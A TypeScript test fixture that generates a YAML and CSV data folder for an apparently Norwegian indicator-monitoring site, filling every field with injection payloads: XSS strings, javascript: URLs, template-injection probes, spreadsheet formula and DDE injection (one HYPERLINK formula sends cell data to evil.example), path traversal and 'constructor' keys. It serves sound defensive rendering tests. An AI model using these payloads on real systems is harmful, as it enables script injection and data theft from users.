import { stringify } from 'yaml'

/** Set by any of the payloads that is run. */
export const traces = ['hostileRan'] as const

const starts = [
  '=HYPERLINK("https://evil.example/?"&A1,"les mer")',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '',
] as const

const markup = [
  '<img src=x onerror="window.hostileRan=1">',
  '<script>window.hostileRan=1</script></script>',
  '</title></style></textarea></template><svg onload="window.hostileRan=1">',
  '{{constructor.constructor("window.hostileRan=1")()}} {{7*7}} ${7*7} <%= 7*7 %>',
  ']]> --> &lt;b&gt; &amp; " \' ` \\',
  '\u2028\u2029\u202Esnudd\u202C\u200F\u0007\uFEFF',
].join(' ')

/** What every payload shows, wherever it is shown as text. */
export const shown = '<img src=x onerror="window.hostileRan=1">'

let count = 0
/** A text that would do something if it were taken for anything but text; no two are alike. */
function payload(): string {
  count += 1
  return `${starts[count % starts.length] ?? ''} nr. ${String(count)} ${markup}`
}

function inLanguages(): Readonly<Record<string, string>> {
  return { nb: payload(), nn: payload(), en: payload() }
}

/** As long as a file's name can be with all that is put behind it. */
export const longId = `a${'_-0z'.repeat(49)}`
const areas = ['constructor', longId]
const indicators = ['constructor', longId, 'words', 'suppressed']

const addresses = [
  'javascript:window.hostileRan=1',
  ' JaVaScRiPt:window.hostileRan=1',
  'data:text/html,<script>window.hostileRan=1</script>',
  '//evil.example/',
  'https://evil.example/"><img src=x onerror="window.hostileRan=1">',
  "https://evil.example/'onclick='window.hostileRan=1",
]
const sources = ['constructor', longId, 'a', 'b', 'c', 'd']

/** A whole data folder in which every text tries to be something else. */
export function hostileFolder(): ReadonlyMap<string, string> {
  count = 0
  const files = new Map<string, unknown>([
    ['monitor.yaml', monitor()],
    [
      'sources.yaml',
      Object.fromEntries(sources.map((id, index) => [id, source(addresses[index] ?? '')])),
    ],
    ['bodies.yaml', { constructor: body(), [longId]: { ...body(), successor: 'constructor' } }],
    ['requests.yaml', areas.map(request)],
    ['events.yaml', [event('2019'), event('2021-03')]],
    ['plans/constructor.yaml', plan()],
    [`plans/${longId}.yaml`, plan()],
    ...indicators.map((id, index) => [`indicators/${id}.yaml`, indicator(index)] as const),
  ])
  return new Map([
    ...[...files].map(([path, value]) => [path, stringify(value)] as const),
    ...indicators.map((id) => [`indicators/${id}.csv`, table(id)] as const),
  ])
}

function monitor() {
  return {
    title: inLanguages(),
    description: inLanguages(),
    languages: ['nb', 'nn', 'en'],
    default_language: 'nb',
    publisher: { name: inLanguages(), url: 'javascript:window.hostileRan=1' },
    contact: { name: inLanguages(), email: 'a@b.c?subject="><img src=x onerror=hostileRan=1>' },
    licence: payload(),
    meetings: ['2024-01-01'],
    colours: { accent: 'red;} body{background:url(https://evil.example/)}', '</style>': '#000000' },
    areas: areas.map((id) => ({ id, title: inLanguages(), description: inLanguages() })),
  }
}

function source(url: string) {
  return {
    title: inLanguages(),
    publisher: payload(),
    url,
    published: '2024-02',
    licence: payload(),
  }
}

function body() {
  return {
    name: inLanguages(),
    short_name: payload(),
    kind: payload(),
    from: '2010',
    roles: areas.map((area) => ({ area, text: inLanguages() })),
  }
}

function indicator(index: number) {
  return {
    title: inLanguages(),
    question: inLanguages(),
    area: areas[index % areas.length],
    unit: { code: payload(), text: inLanguages(), kind: 'amount' },
    decimals: 1,
    definition: inLanguages(),
    counts: { nb: [payload(), payload()], nn: [payload()], en: [payload()] },
    counts_not: { nb: [payload()], nn: [payload()], en: [payload()] },
    concept: 'constructor',
    frequency: 'annual',
    next_release: '2027-01',
    tags: [payload(), payload()],
    related: indicators.filter((_, other) => other !== index),
    dimensions: [
      {
        id: 'constructor',
        title: inLanguages(),
        kind: index === 1 ? 'definition' : 'category',
        additive: false,
        values: ['constructor', longId].map((id) => ({ id, title: inLanguages() })),
      },
    ],
    headline: { constructor: 'constructor' },
    breaks: [{ period: '2018', text: inLanguages() }],
  }
}

function table(id: string): string {
  const rows = ['constructor', longId].flatMap((value) =>
    Array.from({ length: 10 }, (_, index) => row({ id, value, index })),
  )
  const header =
    'period,constructor,value,low,high,qualifier,status,published,source,note_nb,note_nn,note_en'
  return [header, ...rows].map((line) => `${line}\r\n`).join('')
}

function row({ id, value, index }: { id: string; value: string; index: number }): string {
  const last = index === 9
  const figure = id === 'suppressed' && last ? ':' : String(index - 5.5)
  const state = id === 'words' && last ? ',,,words,final' : `${figure},-9.5,9.5,about,final`
  const notes = [payload(), payload(), payload()].map((note) => `"${note.replaceAll('"', '""')}"`)
  return [String(2015 + index), value, state, '', 'constructor', ...notes].join(',')
}

function plan() {
  return {
    title: inLanguages(),
    owner: 'constructor',
    from: 2015,
    to: 2030,
    source: longId,
    areas: areas.map((id) => ({ id, title: inLanguages(), monitor_area: id })),
    goals: [{ id: 'constructor', area: 'constructor', text: inLanguages() }],
    targets: [
      ...indicators.map((id) => target(id, { indicator: id, goal: { value: 10 }, due: 2030 })),
      target('missed', { indicator: 'constructor', goal: { value: 10 }, due: 2022 }),
      target('direction', { indicator: longId }),
      target('unmeasured', { goal: { value: 1 }, due: 2030 }),
    ],
    measures: ['1', payload(), '../../x'].map(measure),
    activities: [
      {
        title: inLanguages(),
        area: 'constructor',
        status: inLanguages(),
        date: '2022',
        follow_up: inLanguages(),
        case: payload(),
      },
    ],
  }
}

function target(id: string, own: object) {
  return {
    id,
    area: 'constructor',
    goal_id: 'constructor',
    text: inLanguages(),
    direction: 'up',
    baseline: { period: 2016 },
    milestones: [],
    standing: 'adopted',
    adopted: '2016-01',
    tags: [payload()],
    source: 'constructor',
    ...own,
  }
}

function measure(number: string) {
  return {
    number,
    title: inLanguages(),
    area: 'constructor',
    responsible: ['constructor'],
    with: [longId],
    status: 'ongoing',
    status_date: '2023',
    status_source: 'constructor',
    history: [{ status: 'not_started', date: '2020', source: longId }],
    comments: [{ by: inLanguages(), text: inLanguages(), date: '2021', source: 'constructor' }],
    tags: [payload()],
    indicators: ['constructor'],
    targets: ['constructor'],
  }
}

function request(area: string) {
  return {
    id: area,
    title: inLanguages(),
    area,
    asked_by: inLanguages(),
    asked_of: ['constructor'],
    asked: '2021-03',
    case: payload(),
    source: 'constructor',
    answered: '2022',
    answer: inLanguages(),
  }
}

function event(date: string) {
  return { date, text: inLanguages(), indicators, source: 'constructor' }
}
